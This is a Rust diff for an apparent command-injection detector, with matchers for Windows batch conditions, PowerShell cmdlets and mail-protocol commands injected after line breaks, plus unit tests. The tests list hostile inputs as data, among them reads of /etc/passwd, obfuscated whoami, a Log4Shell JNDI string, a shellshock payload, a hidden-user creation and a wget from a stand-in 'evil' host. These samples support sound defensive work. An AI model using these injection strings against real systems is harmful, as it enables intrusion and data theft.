+    let Some(cond) = words.get(k) else { return false };
+    if [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"].iter().any(|kw| cond.eq_ignore_ascii_case(kw)) {
+        return words.len() > k + 1;
+    }
+    // A comparison: `a==b` in one word or `a == b`, or a comparison operator word, followed by
+    // something to do.
+    let cmp_ops: [&[u8]; 6] = [b"equ", b"neq", b"lss", b"leq", b"gtr", b"geq"];
+    words.iter().skip(k).take(4).enumerate().any(|(n, w)| {
+        let is_cmp = find_ci(w, b"==", 0).is_some() || (n > 0 && cmp_ops.iter().any(|op| w.eq_ignore_ascii_case(op)));
+        is_cmp && words.len() > k + n + 1
+    }) || rest.starts_with(b"/i ") && find_ci(rest, b"==", 0).is_some()
+}
+
+/// PowerShell: `Verb-Noun` cmdlets that fetch, run or write, and the shell itself with options.
+fn powershell(v: &[u8]) -> Option<Hit> {
+    if !v.contains(&b'-') && find_ci(v, b"iex", 0).is_none() {
+        return None;
+    }
+    const VERBS: &[&[u8]] = &[
+        b"invoke-",
+        b"start-",
+        b"new-",
+        b"get-",
+        b"set-",
+        b"out-",
+        b"add-",
+        b"remove-",
+        b"stop-",
+        b"import-",
+        b"export-",
+        b"convertto-",
+        b"convertfrom-",
+        b"copy-",
+        b"move-",
+    ];
+    const NOUNS: &[&[u8]] = &[
+        b"webrequest",
+        b"restmethod",
+        b"expression",
+        b"command",
+        b"item",
+        b"itemproperty",
+        b"process",
+        b"object",
+        b"content",
+        b"childitem",
+        b"service",
+        b"wmiobject",
+        b"ciminstance",
+        b"file",
+        b"type",
+        b"executionpolicy",
+        b"mppreference",
+        b"localuser",
+        b"scheduledtask",
+        b"module",
+        b"securestring",
+        b"bitstransfer",
+        b"clixml",
+        b"psdrive",
+        b"psession",
+        b"pssession",
+        b"nettcpconnection",
+        b"history",
+    ];
+    let mut i = 0;
+    while i < v.len() {
+        if (i == 0 || !is_word(v[i - 1])) && v[i].is_ascii_alphabetic() {
+            for verb in VERBS {
+                if starts_with_ci(&v[i..], verb) {
+                    let rest = &v[i + verb.len()..];
+                    let noun_end = rest.iter().position(|&b| !b.is_ascii_alphanumeric()).unwrap_or(rest.len());
+                    let noun = &rest[..noun_end];
+                    if NOUNS.iter().any(|n| noun.eq_ignore_ascii_case(n)) {
+                        return Some(Hit::new(1, i, (i + verb.len() + noun_end).min(v.len())));
+                    }
+                }
+            }
+            if starts_with_ci(&v[i..], b"iex") && v.get(i + 3).is_some_and(|&b| b == b'(' || b == b' ') && i == 0 {
+                return Some(Hit::new(1, i, (i + 16).min(v.len())));
+            }
+        }
+        i += 1;
+    }
+    None
+}
+
+/// SMTP, IMAP and POP3 commands smuggled after a line break into a mail-sending parameter.
+fn mail_protocol(v: &[u8]) -> Option<Hit> {
+    const CMDS: &[&[u8]] = &[
+        b"mail from:",
+        b"rcpt to:",
+        b"ehlo ",
+        b"helo ",
+        b"data\r",
+        b"data\n",
+        b"auth ",
+        b"retr ",
+        b"list ",
+        b"top ",
+        b"apop ",
+        b"user ",
+        b"pass ",
+        b"dele ",
+        b"stat\r",
+        b"quit\r",
+    ];
+    const IMAP: &[&[u8]] = &[
+        b"login",
+        b"select",
+        b"append",
+        b"fetch",
+        b"store",
+        b"status",
+        b"uid",
+        b"authenticate",
+        b"examine",
+        b"search",
+        b"capability",
+        b"logout",
+        b"delete",
+        b"rename",
+        b"copy",
+        b"list",
+    ];
+    let mut i = 0;
+    while i < v.len() {
+        if v[i] == b'\n' || v[i] == b'\r' {
+            let mut j = i;
+            while j < v.len() && (v[j] == b'\r' || v[j] == b'\n') {
+                j += 1;
+            }
+            let line = &v[j..];
+            if CMDS.iter().any(|c| starts_with_ci(line, c)) {
+                return Some(Hit::new(2, j, (j + 24).min(v.len())));
+            }
+            // IMAP: a tag, then a command.
+            let tag_end = line.iter().position(|&b| b == b' ').unwrap_or(line.len());
+            if tag_end > 0 && tag_end < 12 && line[..tag_end].iter().all(u8::is_ascii_alphanumeric) {
+                let cmd = &line[(tag_end + 1).min(line.len())..];
+                if IMAP.iter().any(|c| starts_with_ci(cmd, c) && cmd.get(c.len()).is_none_or(|&b| !is_word(b))) {
+                    return Some(Hit::new(2, j, (j + 24).min(v.len())));
+                }
+            }
+            i = j;
+            continue;
+        }
+        i += 1;
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cmdi(s: &str, level: u8) -> bool {
+        check(s.as_bytes(), Shape::of(s.as_bytes()), true, level).is_some()
+    }
+
+    #[test]
+    fn ordinary_text_passes() {
+        for s in [
+            "Tom & Jerry",
+            "rock & roll; then more",
+            "drop me a line; I'll call",
+            "time is of the essence",
+            "ping pong tables",
+            "tar is a dark brown or black bituminous usually odorous viscous liquid",
+            "Some text (in brackets).",
+            "hello [text in brackets]",
+            "page[1]",
+            "take this math expression: 1[a/-1]",
+            "kills foo bar",
+            "python developer",
+            "The cat sat on the mat",
+            "R&D; cat food",
+            "{\"a\": 1, \"b\": 2}",
+            "{1,2,3}",
+            "Hello ${name}, welcome",
+            "a|b|c",
+            "if you want, call me",
+            "iffoo a==b foo",
+            "C:\\Windows\\System32\\ls",
+            "Get-Started guide",
+            "https://example.com/search?q=x&y=1",
+            "550e8400-e29b-41d4-a716-446655440000",
+            "12:30:45",
+            "job_title=head of",
+            "For the love of it, in (my) opinion do it",
+            "markdown with `code` inside",
+        ] {
+            assert!(!cmdi(s, 1), "{s}");
+        }
+    }
+
+    #[test]
+    fn injections_and_evasions_are_caught_at_paranoia_one() {
+        for s in [
+            ";id",
+            "; cat /etc/passwd",
+            "| cat /etc/passwd",
+            "&& whoami",
+            "x || ls -la",
+            "$(whoami)",
+            "`id`",
+            "1;c''at /etc/passwd",
+            ";w\\hoami",
+            ";who$@ami",
+            "x;cat${IFS}/etc/passwd",
+            "/???/b?n/c?t /etc/passwd",
+            "cat /etc/pa[s]swd",
+            "{cat,/etc/passwd}",
+            "${jndi:ldap://evil/x}",
+            "<(cat file)",
+            "() { :; }; /bin/bash -c id",
+            "ls -l /etc/passwd",
+            "& w^h^o^a^m^i",
+            "| dir c:\\",
+            "& net user hacker /add",
+            "Invoke-WebRequest http://example.com/x.ps1",
+            "powershell -enc AAAA",
+            "for /f %i in ('whoami') do echo %i",
+            "IF EXIST C:\\pagefile.sys CMD",
+            "if a==b foo",
+            "~+",
+            "!-1",
+            "pi``ng 127.0.0.1",
+            "python3.10 cmd",
+            "printf dW5hbWUgLWE=|base64 -d|sh",
+            "\nwget http://evil/x",
+        ] {
+            assert!(cmdi(s, 1), "{s}");
+        }
+    }
+
+    #[test]
+    fn mail_commands_after_a_line_break_count_from_paranoia_two() {
+        let s = "\r\nMAIL FROM:<a@b.com>";
+        assert!(!cmdi(s, 1));
+        assert!(cmdi(s, 2));
+    }
+
+    #[test]
+    fn command_tables_are_sorted_for_binary_search() {
+        assert!(RARE.windows(2).all(|w| w[0] < w[1]));
+        assert!(COMMON.windows(2).all(|w| w[0] < w[1]));
+        assert!(!RARE.iter().any(|r| COMMON.contains(r)));
+    }
+
+    #[test]
+    fn globs_match_like_a_shell() {
+        assert!(glob_matches(b"???", b"bin"));
+        assert!(glob_matches(b"b[a-z]n", b"bin"));
+        assert!(glob_matches(b"[!q]tc", b"etc"));
+        assert!(glob_matches(b"*", b"usr"));
+        assert!(!glob_matches(b"??", b"bin"));
+        assert!(!glob_matches(b"[!e]tc", b"etc"));
+    }
+}
